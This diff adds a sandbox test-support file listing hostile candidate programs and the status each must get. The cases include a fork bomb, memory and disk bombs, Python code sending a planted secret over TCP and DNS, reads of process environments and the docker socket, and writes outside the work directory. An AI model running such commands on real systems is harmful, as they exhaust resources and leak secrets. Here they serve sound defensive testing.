@@ -1,0 +1,304 @@
+// Hostile candidates, each with the status it must get: shared by the hostile suite (the engine's
+// default runtime) and the runtimes suite (gVisor, podman), so every runtime meets the same cases.
+// Each case names the limit that decides it; the hostile suite's notes say what is seen without it.
+import { execFileSync } from "node:child_process";
+import { randomBytes } from "node:crypto";
+import { performance } from "node:perf_hooks";
+import { expect } from "vitest";
+import type { Language, Result, Status } from "../../src/model.js";
+import { judgeCandidate } from "../../src/pipeline.js";
+import { DockerEngine } from "../../src/sandbox/docker.js";
+import { RUN_LABEL } from "../../src/sandbox/engine.js";
+import { readSettings, type InputName } from "../../src/settings.js";
+import { TEST_IMAGE } from "./support.js";
+
+export type Inputs = Partial<Record<InputName, string>>;
+
+/** Small limits keep the suite fast on two cores; cases raise one where they need it. */
+export const HOSTILE_INPUTS: Inputs = {
+  image: TEST_IMAGE,
+  pull: "never",
+  timeout: "2s",
+  memory: "64m",
+  cpus: "1",
+  "pids-limit": "64",
+  "max-output": "64k",
+  "tmpfs-size": "8m",
+};
+
+export interface Judged {
+  result: Result;
+  /** Wall-clock time of the whole judgement, start-up included. */
+  elapsedMs: number;
+}
+
+/** One engine (binary and runtime) and the run id its containers are labelled with. */
+export class Sandbox {
+  readonly engine: DockerEngine;
+  readonly runId = `hostile-${randomBytes(4).toString("hex")}`;
+
+  constructor(
+    readonly options: { binary?: string; runtime?: string; image?: string } = {},
+  ) {
+    this.engine = new DockerEngine(options.binary ? { binary: options.binary } : {});
+  }
+
+  judge(language: Language, code: string, inputs: Inputs = {}): Promise<Judged> {
+    return this.judgeReply(fence(language, code), { language, ...inputs });
+  }
+
+  /** A whole reply through the pipeline: extraction, parse check, the run, the verdict. */
+  async judgeReply(text: string, inputs: Inputs = {}): Promise<Judged> {
+    const all: Inputs = {
+      ...HOSTILE_INPUTS,
+      ...(this.options.image ? { image: this.options.image } : {}),
+      ...(this.options.runtime ? { runtime: this.options.runtime } : {}),
+      ...inputs,
+    };
+    const settings = readSettings((name) => all[name] ?? "", { defaultWorkdir: process.cwd() });
+    const candidate = { id: "hostile", source: "hostile", kind: "reply" as const, text };
+    const started = performance.now();
+    const result = await judgeCandidate(candidate, {
+      settings,
+      engine: this.engine,
+      testFiles: [],
+      runId: this.runId,
+      prepareImage: async () => undefined,
+    });
+    return { result, elapsedMs: performance.now() - started };
+  }
+
+  /** The runner survived the case: its removals all worked and no container of the run is left. */
+  async expectClean(): Promise<void> {
+    expect(await this.engine.close()).toEqual([]);
+    const left = execFileSync(this.engine.binary, ["ps", "-a", "--filter", `label=${RUN_LABEL}=${this.runId}`, "--format", "{{.Names}}"], {
+      encoding: "utf8",
+    });
+    expect(left.trim()).toBe("");
+  }
+}
+
+export function fence(language: Language, code: string): string {
+  return `Here is my solution:\n\n\`\`\`${language}\n${code}\n\`\`\`\n`;
+}
+
+/** What a case may look at beyond the result. */
+export interface CaseContext {
+  /** Where the exfiltration listener answers (a container of our own on the engine's bridge). */
+  listenerIp: string;
+  /** Planted in the runner's environment and in a host file; must never show up in a sandbox. */
+  secret: string;
+  /** A host file holding the secret. */
+  hostFile: string;
+}
+
+export interface HostileCase {
+  name: string;
+  language: Language;
+  code: string | ((ctx: CaseContext) => string);
+  status: Status;
+  inputs?: Inputs;
+  check?: (judged: Judged, ctx: CaseContext) => void;
+}
+
+const MiB = 1024 * 1024;
+
+/** The limits a runtime must keep, as candidates see them. */
+export const LIMIT_CASES: HostileCase[] = [
+  {
+    name: "an endless loop",
+    language: "bash",
+    code: "echo started\nwhile :; do :; done",
+    status: "timeout",
+    check: ({ result }) => {
+      expect(result.stdout).toBe("started\n");
+      expect(result.duration_ms).toBeGreaterThanOrEqual(2_000);
+      expect(result.duration_ms).toBeLessThan(5_000);
+    },
+  },
+  {
+    // 8 threads spinning, measured from inside: CPU time over wall time is the share it got.
+    name: "a CPU spin in 8 threads",
+    language: "javascript",
+    code: [
+      "const { Worker } = require('node:worker_threads');",
+      "for (let i = 0; i < 8; i++) new Worker('for (;;) {}', { eval: true });",
+      "setTimeout(() => {",
+      "  const cpu0 = process.cpuUsage(), wall0 = process.hrtime.bigint();",
+      "  setTimeout(() => {",
+      "    const cpu = process.cpuUsage(cpu0), wall = Number(process.hrtime.bigint() - wall0) / 1000;",
+      "    console.log('share', ((cpu.user + cpu.system) / wall).toFixed(2));",
+      "  }, 1000);",
+      "}, 500);",
+    ].join("\n"),
+    status: "timeout",
+    // Each worker is a V8 isolate of ~10 MB.
+    inputs: { cpus: "0.5", timeout: "3s", memory: "256m" },
+    check: ({ result }) => {
+      const share = Number(/^share (\d+\.\d+)$/.exec(result.stdout.trim())?.[1]);
+      expect(share, result.stdout + result.stderr).toBeGreaterThan(0.3);
+      expect(share).toBeLessThan(0.75);
+    },
+  },
+  {
+    // Bounded at 1 GiB, filled so every page is really used.
+    name: "a memory bomb",
+    language: "javascript",
+    code: "const kept = [];\nfor (let i = 0; i < 1024; i++) kept.push(Buffer.alloc(1 << 20, 1));\nconsole.log('survived', kept.length);",
+    status: "oom",
+    check: ({ result }) => expect(result.stdout).not.toContain("survived"),
+  },
+  {
+    // The top loop keeps forking; the pids limit turns forks into EAGAIN, which bash reports and retries.
+    name: "a fork bomb",
+    language: "bash",
+    code: "bomb() { bomb | bomb & }\nwhile :; do bomb; done",
+    status: "timeout",
+    inputs: { "pids-limit": "32" },
+    check: ({ result }) => {
+      expect(result.stderr).toMatch(/fork: retry: Resource temporarily unavailable/);
+      expect(result.stderr).not.toMatch(/Cannot allocate memory/);
+    },
+  },
+  {
+    name: "fd exhaustion",
+    language: "python",
+    code: [
+      "import sys",
+      "fds = []",
+      "try:",
+      "    while len(fds) < 10_000:",
+      "        fds.append(open('/dev/null'))",
+      "except OSError as e:",
+      "    sys.exit(f'open failed after {len(fds)}: errno {e.errno}')",
+      "print('opened', len(fds))",
+    ].join("\n"),
+    status: "test_failed",
+    check: ({ result }) => {
+      const [, opened, errno] = /open failed after (\d+): errno (\d+)/.exec(result.stderr) ?? [];
+      expect(Number(errno), result.stderr).toBe(24);
+      expect(Number(opened)).toBeLessThan(256);
+    },
+  },
+  // Many 1 MiB files, so the tmpfs size decides and not the per-file size limit.
+  ...["/work", "/tmp"].map(
+    (dir): HostileCase => ({
+      name: `a disk fill of ${dir}`,
+      language: "bash",
+      code: `for i in $(seq 64); do head -c 1048576 /dev/zero > ${dir}/fill$i || break; done\necho "$(cat ${dir}/fill* | wc -c) bytes"\nexit 1`,
+      status: "test_failed",
+      check: ({ result }) => {
+        expect(result.stderr).toMatch(/No space left on device/);
+        const written = Number(/^(\d+) bytes$/.exec(result.stdout.trim())?.[1]);
+        expect(written).toBeGreaterThan(4 * MiB);
+        expect(written).toBeLessThanOrEqual(8 * MiB);
+      },
+    }),
+  ),
+  ...[
+    ["by IP (TCP)", "s = socket.create_connection((IP, 8080), timeout=1)\ns.sendall(SECRET.encode())"],
+    // A DNS query carrying the secret in its name, sent straight to the attacker's resolver.
+    [
+      "by DNS (UDP to a resolver)",
+      "name = b''.join(bytes([len(p)]) + p for p in (SECRET.encode(), b'exfil', b'example')) + b'\\0'\n" +
+        "query = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + name + b'\\x00\\x01\\x00\\x01'\n" +
+        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, (IP, 53))",
+    ],
+  ].map(
+    ([how, send]): HostileCase => ({
+      name: `network exfiltration ${how}`,
+      language: "python",
+      code: ({ listenerIp, secret }) => `import socket\nIP = ${JSON.stringify(listenerIp)}\nSECRET = ${JSON.stringify(secret)}\n${send}\nprint('sent')`,
+      status: "test_failed",
+      check: ({ result }) => {
+        expect(result.stderr).toMatch(/OSError: \[Errno 101\] Network is unreachable/);
+        expect(result.stdout).toBe("");
+      },
+    }),
+  ),
+  ...(
+    [
+      ["the runner's environment", "env; tr '\\0' '\\n' < /proc/self/environ", (s) => `env | grep -F ${s}`],
+      ["/proc/1/environ", "tr '\\0' '\\n' < /proc/1/environ", (s) => `grep -F ${s} /proc/1/environ`],
+      ["the docker socket", "ls -l /var/run/docker.sock /run/docker.sock", () => "test -S /var/run/docker.sock || test -S /run/docker.sock"],
+    ] satisfies [string, string, (secret: string) => string][]
+  ).map(
+    ([what, show, find]): HostileCase => ({
+      // Prints what it can see, then exits 0 only if it found the secret.
+      name: `reading ${what}`,
+      language: "bash",
+      code: ({ secret }) => `${show}\n${find(secret)}`,
+      status: "test_failed",
+      check: ({ result }, { secret }) => expect(result.stdout + result.stderr).not.toContain(secret),
+    }),
+  ),
+  {
+    name: "reading a host path",
+    language: "bash",
+    code: ({ hostFile }) => `cat ${hostFile}`,
+    status: "test_failed",
+    check: ({ result }, { secret }) => {
+      expect(result.stderr).toMatch(/No such file or directory/);
+      expect(result.stdout).not.toContain(secret);
+    },
+  },
+  {
+    // As nobody, / and /etc refuse with EACCES even when writable; /var/tmp is world-writable.
+    name: "writing outside the work dir",
+    language: "bash",
+    code: "for dir in / /etc /usr/local/bin /var/tmp /home; do echo x > \"$dir/sandbox-gate-hacked\" && echo \"wrote $dir\"; done\nexit 1",
+    status: "test_failed",
+    check: ({ result }) => {
+      expect(result.stdout).toBe("");
+      expect(result.stderr.match(/Read-only file system/g)).toHaveLength(5);
+    },
+  },
+];
+
+/** Cases about how the runner ends and judges a run, whatever the runtime. */
+export const ENDING_CASES: HostileCase[] = [
+  {
+    // The run ends with the test command; the daemon dies with the container's PID namespace.
+    name: "a child that daemonizes (setsid) and outlives the test command",
+    language: "bash",
+    code: "setsid bash -c 'exec -a sandbox-gate-daemon sleep 60' </dev/null >/dev/null 2>&1 &\nsetsid bash -c 'sleep 1; echo daemon still here' &\necho started",
+    status: "pass",
+    inputs: { timeout: "5s" },
+    check: ({ result, elapsedMs }) => {
+      expect(result.stdout).toBe("started\n");
+      expect(elapsedMs).toBeLessThan(3_000);
+    },
+  },
+  {
+    // docker-init forwards SIGTERM to the command (SIGKILL to PID 1 is refused by the kernel).
+    name: "killing its own PID 1",
+    language: "bash",
+    code: "kill -KILL 1\nkill -TERM 1\nsleep 2\necho survived",
+    status: "test_failed",
+    check: ({ result }) => {
+      expect(result.signal).toBe("SIGTERM");
+      expect(result.stdout).toBe("");
+    },
+  },
+  {
+    name: "sleeping after closing stdout and stderr",
+    language: "bash",
+    code: "echo bye\nexec >&- 2>&-\nsleep 30",
+    status: "timeout",
+    check: ({ result }) => {
+      expect(result.stdout).toBe("bye\n");
+      expect(result.duration_ms).toBeLessThan(5_000);
+    },
+  },
+  {
+    name: 'a test that prints "PASS" but exits 1',
+    language: "python",
+    code: "print('PASS')\nprint('OK (3 tests)')\nraise SystemExit(1)",
+    status: "test_failed",
+    check: ({ result }) => expect(result.exit_code).toBe(1),
+  },
+];
+
+export function codeOf(c: HostileCase, ctx: CaseContext): string {
+  return typeof c.code === "function" ? c.code(ctx) : c.code;
+}
